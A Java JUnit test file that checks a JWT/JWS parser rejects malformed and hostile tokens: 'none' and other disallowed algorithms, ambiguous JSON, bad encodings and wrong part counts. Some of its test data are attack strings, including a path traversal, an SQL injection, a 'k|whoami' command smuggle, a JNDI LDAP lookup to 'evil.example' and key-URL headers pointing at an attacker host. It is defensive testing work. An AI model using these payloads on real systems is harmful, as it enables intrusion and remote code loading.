package io.drawbridge.auth.token;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Set;
import java.util.stream.IntStream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("Taking a token apart (RFC 7515, RFC 8725)")
final class JwsTest {
  private static final String SIGNATURE = base64(new byte[32]);

  private static String base64(byte[] bytes) {
    return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
  }

  private static String base64(String text) {
    return base64(text.getBytes(StandardCharsets.UTF_8));
  }

  private static Jws parse(String token) {
    return Jws.parse(token, Set.of(Algorithm.HS256));
  }

  private static Jws header(String json) {
    return parse(base64(json) + '.' + base64("{}") + '.' + SIGNATURE);
  }

  private static void refuses(String token, String why) {
    assertThatThrownBy(() -> parse(token)).isInstanceOf(BadToken.class).hasMessageContaining(why);
  }

  private static void refusesHeader(String json, String why) {
    refuses(base64(json) + '.' + base64("{}") + '.' + SIGNATURE, why);
  }

  @Test
  void findsWhatWasSigned() {
    String content = base64("{\"kid\":\"k\",\"alg\":\"HS256\"}") + '.' + base64("{\"a\":1}");

    Jws jws = parse(content + '.' + SIGNATURE);

    assertThat(jws.algorithm()).isEqualTo(Algorithm.HS256);
    assertThat(jws.keyId()).isEqualTo("k");
    assertThat(jws.content()).asString(StandardCharsets.US_ASCII).isEqualTo(content);
    assertThat(jws.payload()).asString(StandardCharsets.UTF_8).isEqualTo("{\"a\":1}");
    assertThat(jws.signature()).hasSize(32).containsOnly(0);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "none",
        "None",
        "NONE",
        "nOnE",
        "none ",
        " none",
        "",
        "hs256",
        "HS256 ",
        "HS257",
        "HS384",
        "RS256",
        "ES256",
        "EdDSA",
        "dir",
        "A128KW",
        "HS256\\u0000",
        "ＨＳ256"
      })
  void refusesEveryOtherAlgorithm(String algorithm) {
    refusesHeader("{\"alg\":\"" + algorithm + "\"}", "algorithm not allowed");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{}",
        "{\"alg\":null}",
        "{\"alg\":256}",
        "{\"alg\":[\"HS256\"]}",
        "{\"ALG\":\"HS256\"}"
      })
  void refusesAHeaderThatNamesNone(String json) {
    refusesHeader(json, "algorithm not allowed");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "[]",
        "null",
        "\"HS256\"",
        "{\"alg\":\"HS256\"",
        "{\"alg\":\"HS256\"}}",
        "{\"alg\":\"HS256\"} x",
        "{'alg':'HS256'}",
        "{\"alg\":\"HS256\",}",
        "// x\n{\"alg\":\"HS256\"}",
        "\uFEFF{\"alg\":\"HS256\"}",
        "{\"alg\":\"none\",\"alg\":\"HS256\"}",
        "{\"alg\":\"HS256\",\"\\u0061lg\":\"HS256\"}",
        "{\"alg\":\"HS256\",\"x\":{\"y\":1,\"y\":2}}",
        "{\"alg\":\"HS256\",\"x\":NaN}"
      })
  void refusesAHeaderThatIsNoJsonObjectOrMeansTwoThings(String json) {
    assertThatThrownBy(() -> header(json)).isInstanceOf(BadToken.class);
  }

  @Test
  void refusesAHeaderThatIsNestedDeepOrHasHugeNumbers() {
    String deep = "[".repeat(2_000) + "]".repeat(2_000);
    refusesHeader("{\"alg\":\"HS256\",\"x\":" + deep + "}", "header is not JSON");
    refusesHeader("{\"alg\":\"HS256\",\"x\":" + "9".repeat(4_000) + "}", "header is not JSON");
  }

  @Test
  void refusesAHeaderThatIsNoUtf8() {
    for (int[] bad : new int[][] {{0xFF}, {0xC0, 0xAF}, {0xED, 0xA0, 0x80}, {0xF5, 0x80}, {0xC3}}) {
      byte[] json = "{\"alg\":\"HS256\",\"x\":\"__\"}".getBytes(StandardCharsets.UTF_8);
      IntStream.range(0, Math.min(2, bad.length))
          .forEach(i -> json[json.length - 4 + i] = (byte) bad[i]);
      refuses(base64(json) + '.' + base64("{}") + '.' + SIGNATURE, "header is not UTF-8");
    }
    byte[] wide = "{\"alg\":\"HS256\"}".getBytes(StandardCharsets.UTF_16BE);
    assertThatThrownBy(() -> parse(base64(wide) + '.' + base64("{}") + '.' + SIGNATURE))
        .isInstanceOf(BadToken.class);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          "crit":["exp"]                         | critical header
          "crit":[]                              | critical header
          "crit":null                            | critical header
          "b64":false                            | header b64
          "b64":true                             | header b64
          "typ":"at+jwe"                         | typ
          "typ":"logout+jwt"                     | typ
          "typ":"secevent+jwt"                   | typ
          "typ":"application/"                   | typ
          "typ":"text/jwt"                       | typ
          "typ":""                               | typ
          "typ":null                             | typ
          "typ":7                                | typ
          "kid":7                                | kid
          "kid":null                             | kid
          "kid":["k"]                            | kid
          """)
  void refusesWhatItDoesNotUnderstand(String member, String why) {
    refusesHeader("{\"alg\":\"HS256\"," + member + "}", why);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"JWT", "jwt", "at+jwt", "AT+JWT", "application/jwt", "Application/at+JWT"})
  void takesTokensForAccess(String type) {
    assertThat(header("{\"alg\":\"HS256\",\"typ\":\"" + type + "\"}").keyId()).isNull();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../../../dev/null",
        "/etc/passwd",
        "k' UNION SELECT 'key' -- ",
        "k|whoami",
        "\\u0000",
        "${jndi:ldap://evil.example}"
      })
  void aNameOfAKeyIsANameAndNothingElse(String id) {
    Keys keys = new Keys(Set.of(Algorithm.HS256), java.util.List.of());
    String told = header("{\"alg\":\"HS256\",\"kid\":\"" + id + "\"}").keyId();

    assertThat(keys.candidates(Algorithm.HS256, told)).isEmpty();
  }

  @Test
  void refusesAVeryLongNameOfAKey() {
    refusesHeader("{\"alg\":\"HS256\",\"kid\":\"" + "k".repeat(257) + "\"}", "kid");
  }

  @ParameterizedTest
  @ValueSource(strings = {"jku", "x5u", "jwk", "x5c", "x5t", "x5t#S256"})
  void doesNotLookWhereAHeaderPointsForKeys(String member) {
    String evil = "{\"alg\":\"HS256\",\"" + member + "\":\"https://evil.example/keys\"}";

    assertThat(header(evil).algorithm()).isEqualTo(Algorithm.HS256);
  }

  @Test
  void refusesEveryOtherNumberOfParts() {
    String header = base64("{\"alg\":\"HS256\"}");
    String payload = base64("{}");
    for (String token :
        new String[] {
          "",
          ".",
          "..",
          header,
          header + '.',
          header + '.' + payload,
          header + '.' + payload + '.',
          header + ".." + SIGNATURE,
          '.' + payload + '.' + SIGNATURE,
          header + '.' + payload + '.' + SIGNATURE + '.',
          header + '.' + payload + '.' + SIGNATURE + '.' + SIGNATURE,
          header + '.' + payload + '.' + SIGNATURE + '.' + SIGNATURE + '.' + SIGNATURE
        }) {
      refuses(token, "no compact JWS");
    }
  }

  @Test
  void refusesEveryOtherWayToWriteTheSameBytes() {
    String header = base64("{\"alg\":\"HS256\"}");
    String payload = base64("{}");
    // 32 bytes end on two unused bits, which are zero in the canonical form.
    assertThat(SIGNATURE).hasSize(43).endsWith("A");
    String begin = SIGNATURE.substring(0, 42);
    for (String signature :
        new String[] {
          begin + 'B',
          begin + 'C',
          begin + 'D',
          SIGNATURE + '=',
          SIGNATURE + "==",
          SIGNATURE + '\n',
          ' ' + SIGNATURE,
          begin + '\n' + 'A',
          begin + '+',
          begin + '/',
          SIGNATURE + "AA=",
          begin + "A\u0000",
          begin + 'é'
        }) {
      refuses(header + '.' + payload + '.' + signature, "no compact JWS");
    }
    assertThat(payload).isEqualTo("e30");
    refuses(header + ".e31." + SIGNATURE, "no compact JWS");
    refuses(header + ".e30=." + SIGNATURE, "no compact JWS");
  }
}
